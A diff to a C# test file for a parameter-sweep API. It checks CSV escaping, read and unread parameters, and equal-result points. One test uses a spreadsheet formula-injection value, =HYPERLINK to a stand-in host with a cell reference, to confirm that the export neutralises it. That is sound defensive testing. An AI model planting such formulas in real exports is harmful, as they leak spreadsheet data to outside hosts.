@@ -76,7 +76,7 @@ public sealed class GetSweepTests(SentinelApp app)
     public async Task A_name_that_a_spreadsheet_would_compute_is_text_in_the_table_and_numbers_stay_numbers()
     {
         const string name = "=HYPERLINK(\"http://x/?\"&A2)";
-        const string code = "double[] GenerateSignals(Bars bars, Parameters parameters) => new double[bars.Count];";
+        const string code = "double[] GenerateSignals(Bars bars, Parameters parameters) => bars.Select(_ => 0 * parameters.Get(\"=HYPERLINK(\\\"http://x/?\\\"&A2)\", 0)).ToArray();";
         var sweep = await http.Sweep(SweepRequests.Of("formula", code, new Dictionary<string, double[]> { [name] = [-1.5, 2] }));
         using var request = new HttpRequestMessage(HttpMethod.Get, $"/v1/sweeps/{sweep.Id()}");
         request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
@@ -87,6 +87,41 @@ public sealed class GetSweepTests(SentinelApp app)
         Assert.StartsWith("index,\"'=HYPERLINK(\"\"http://x/?\"\"&A2)\",reason_code,", lines[0], StringComparison.Ordinal);
         Assert.StartsWith("0,-1.5,", lines[1], StringComparison.Ordinal);
     }
+
+    [Fact]
+    public async Task Points_with_equal_targets_are_marked_and_an_axis_that_is_never_read_is_named()
+    {
+        const string code = """
+            double[] GenerateSignals(Bars bars, Parameters parameters)
+            {
+                var length = parameters.GetInt("length", 24);
+                if (length < 0) return bars.Select(_ => parameters["band"]).ToArray();
+                var average = bars.Close.Sma(length);
+                return bars.Select((bar, i) => bar.Close > average[i] ? 1.0 : 0.0).ToArray();
+            }
+            """;
+
+        var sweep = await http.Sweep(SweepRequests.Of("alike", code, new { band = new[] { 0, 1, 2 }, length = new[] { 12, 48 } }));
+
+        Assert.Equal(["length"], Texts(sweep, "parameters_read"));
+        Assert.Equal(["band"], Texts(sweep, "parameters_unread"));
+        Assert.Equal("6 of 6 points completed. Parameter 'band' was sent and never read, so its value changes nothing; the code reads 'length'.", sweep.Text("message"));
+        var best = sweep.GetProperty("best").EnumerateArray().ToArray();
+        Assert.All(best, point => Assert.Equal(2, point.GetProperty("equal_points").GetInt32()));
+        Assert.Equal(2, best.Select(point => point.Text("signal_hash")).Distinct().Count());
+    }
+
+    [Fact]
+    public async Task An_axis_that_some_point_reads_is_not_without_effect()
+    {
+        var sweep = await http.Sweep(SweepRequests.Of("read"));
+
+        Assert.Equal(["band", "length"], Texts(sweep, "parameters_read"));
+        Assert.Empty(Texts(sweep, "parameters_unread"));
+        Assert.Contains(sweep.GetProperty("best").EnumerateArray(), point => point.GetProperty("equal_points").GetInt32() == 0);
+    }
+
+    private static string[] Texts(JsonElement sweep, string list) => [.. sweep.GetProperty(list).EnumerateArray().Select(text => text.GetString()!)];
 
     private static int[] Indices(JsonElement sweep) =>
         [.. sweep.GetProperty("best").EnumerateArray().Select(point => point.GetProperty("index").GetInt32())];
